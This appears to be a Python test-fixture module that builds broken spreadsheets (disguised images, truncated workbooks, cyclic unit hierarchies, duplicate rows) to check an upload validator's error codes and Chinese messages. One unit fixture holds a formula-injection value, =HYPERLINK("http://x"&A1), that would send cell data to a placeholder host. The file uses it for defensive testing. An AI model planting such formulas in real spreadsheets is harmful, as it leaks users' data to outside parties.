"""Which spreadsheets are wrong, and what is their sender told? The same list for the pages and for the command."""

from __future__ import annotations

import io
import zipfile
from dataclasses import dataclass

import openpyxl

UNITS = "单位编码,单位名称,上级单位,组织类型,领域"
CATALOG = "一级目录,二级目录,公开形式,公开范围,公开时限,责任单位"
GOOD_UNIT = "GOOD,好党支部,JG,党支部,机关"
"""A row that is right, and must not come in with wrong ones."""
GOOD_ITEM = "组织建设,党费收缴情况,公开栏,本单位,即时,组织部"
HUNDRED_MEGABYTES = 100_000_000


@dataclass(frozen=True)
class Wrong:
    """A file that is wrong in one way; `row` is where, in a table that can be read."""

    problem: str
    name: str
    content: bytes
    code: str
    said: tuple[str, ...]
    row: int | None = None

    def __str__(self) -> str:
        return self.problem


def csv(*lines: str) -> bytes:
    """Return lines as a file that a spreadsheet program saved."""
    return "\n".join(lines).encode("utf-8-sig")


def workbook(*lines: str) -> bytes:
    """Return lines as a workbook, in which a text that begins like a formula is one."""
    book = openpyxl.Workbook()
    for line in lines:
        book.worksheets[0].append(line.split(","))
    saved = io.BytesIO()
    book.save(saved)
    return saved.getvalue()


def archive() -> bytes:
    """Return an archive that is no workbook."""
    saved = io.BytesIO()
    with zipfile.ZipFile(saved, "w") as target:
        target.writestr("readme.txt", "hello")
    return saved.getvalue()


def unreadable(header: str) -> list[Wrong]:
    """Return files of which nothing can be read, for a table that begins with this header."""
    first, needed, *others = header.split(",")
    picture = b"\x89PNG\r\n\x1a\n\x00\x00"
    lacking = "sheet.missing_column"
    called = ("不是电子表格", "另存为 .xlsx")
    return [
        Wrong("missing column", "上报.csv", csv(",".join([first, *others]), "甲"), lacking, (f"缺少列：{needed}",)),
        Wrong("no header", "上报.xlsx", workbook("姓名,电话", "张三,1"), lacking, ("没有找到表头", needed)),
        Wrong("column twice", "上报.csv", csv(f"{header},{needed}", "甲"), "sheet.duplicate_column", ("只保留一列",)),
        Wrong("picture", "上报.xlsx", picture, "sheet.not_a_spreadsheet", ("“上报.xlsx”", *called)),
        Wrong("archive", "上报.xlsx", archive(), "sheet.not_a_spreadsheet", called),
        Wrong("damaged", "上报.xlsx", workbook(header)[:-200], "sheet.damaged", ("已损坏或不完整",)),
        Wrong("web page", "上报.xls", b"<html><table><tr><td>1</table>", "sheet.old_format", ("旧格式",)),
        Wrong("blank", "上报.csv", b"\r\n \r\n", "sheet.empty", ("这个文件是空的",)),
    ]


def unit_rows(problem: str, code: str, row: int, said: str, *rows: str, formula: bool = False) -> Wrong:
    """Return a table of units with wrong rows after a right one."""
    made = (workbook if formula else csv)(UNITS, GOOD_UNIT, *rows)
    return Wrong(problem, "单位.xlsx" if formula else "单位.csv", made, code, (said,), row)


WRONG_UNITS = [
    *unreadable(UNITS),
    unit_rows("unknown unit", "unit.parent_unknown", 3, "没有找到上级单位“火星”", "N,新党支部,火星,党支部,机关"),
    unit_rows("duplicate", "unit.code_doubled", 4, "N", "N,甲党支部,JG,党支部,机关", "N,乙党支部,JG,党支部,机关"),
    unit_rows("cycle", "unit.cycle", 3, "上级", "A,甲党支部,B,党支部,机关", "B,乙党支部,A,党支部,机关"),
    unit_rows("cycle with the tree", "unit.cycle", 3, "上级", "JG,区直机关党总支,JG1,党总支,机关"),
    unit_rows("own superior", "unit.cycle", 3, "上级", "N,新党支部,N,党支部,机关"),
    unit_rows("formula", "cell.formula", 3, "B3 是公式", 'N,=HYPERLINK("http://x"&A1),JG,党支部,机关', formula=True),
    unit_rows("formula as text", "cell.formula", 3, "是公式", "N,=1+1,JG,党支部,机关"),
]
UNREADABLE_CATALOGS = unreadable(CATALOG)


def item_rows(problem: str, code: str, said: str, row: str, *, formula: bool = False) -> Wrong:
    """Return a catalog with a doubtful row after a right one."""
    made = (workbook if formula else csv)(CATALOG, GOOD_ITEM, row)
    return Wrong(problem, "目录.xlsx" if formula else "目录.csv", made, code, (said,), 3)


DOUBTFUL_CATALOGS = [
    item_rows(
        "duplicate", "title.repeated", "与第 2 行重复，这一行没有读取", "组织建设,党费收缴情况,网站,社会,长期,纪委"
    ),
    item_rows(
        "formula", "cell.formula", "B3 是公式，没有读取", "组织建设,=1+1,公开栏,本单位,即时,组织部", formula=True
    ),
    item_rows("no title", "title.missing", "没有", "组织建设,,公开栏,本单位,即时,组织部"),
]
"""A catalog takes what is certain and leaves the rest to a person; none of these rows makes an item."""
